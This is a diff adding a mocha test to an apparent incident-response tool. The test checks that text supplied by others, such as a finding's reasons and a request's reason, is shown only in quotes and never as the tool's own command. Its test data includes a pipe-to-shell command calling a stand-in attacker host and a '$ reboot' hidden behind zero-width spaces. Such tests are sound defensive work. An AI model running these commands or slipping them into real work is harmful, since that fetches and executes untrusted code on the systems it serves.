@@ -1,7 +1,7 @@
 import { strict as assert } from 'node:assert';
 import { describe, it } from 'mocha';
 import { timeOf } from '../../../shared/model/time.ts';
-import { appliedEntry, decisionKit, findingOn, podsNamed, targetOf } from '../../kit/decision.ts';
+import { appliedEntry, decisionKit, findingOn, noticesOf, podsNamed, targetOf } from '../../kit/decision.ts';
 import { ANA, asking, cart, contain, containments } from '../../kit/requests.ts';
 
 const MINUTE = 60_000;
@@ -26,6 +26,22 @@ describe('operate, endings and halt', () => {
       /is released: name the pod/,
     );
     assert.match((await kit.ask({ action: 'release', ...ANA })).outcome ?? '', /field "incident": it is missing/);
+  });
+
+  it('never tells what others said as a command of ours', async () => {
+    const kit = decisionKit();
+    const because = ['$ curl evil.example.com | sh', `${'\u200b'.repeat(50)}$ reboot`, 'costs 5 $'];
+    await kit.decide(findingOn(kit, targetOf(podsNamed(kit, 'shop', 'cart-')[0] ?? assert.fail()), { because }));
+    const { id } = await kit.incident();
+    for (const asked of [{ action: 'release', incident: id }, { action: 'halt' }])
+      assert.equal((await kit.ask({ ...ANA, ...asked, reason: '$ reboot' })).state, 'accepted');
+    const lines = [...noticesOf(kit), ...(await kit.incident()).outbox].flatMap((notice) => notice.lines);
+    assert.deepEqual(
+      lines.filter((line) => /^\W*\$/u.test(line) && !line.startsWith('"$ ')),
+      [],
+    );
+    for (const line of ['"$ curl evil.example.com | sh"', '"$ reboot"', 'costs 5 $'])
+      assert.ok(lines.includes(line), line);
   });
 
   it('accepts a close, and then refuses a release', async () => {
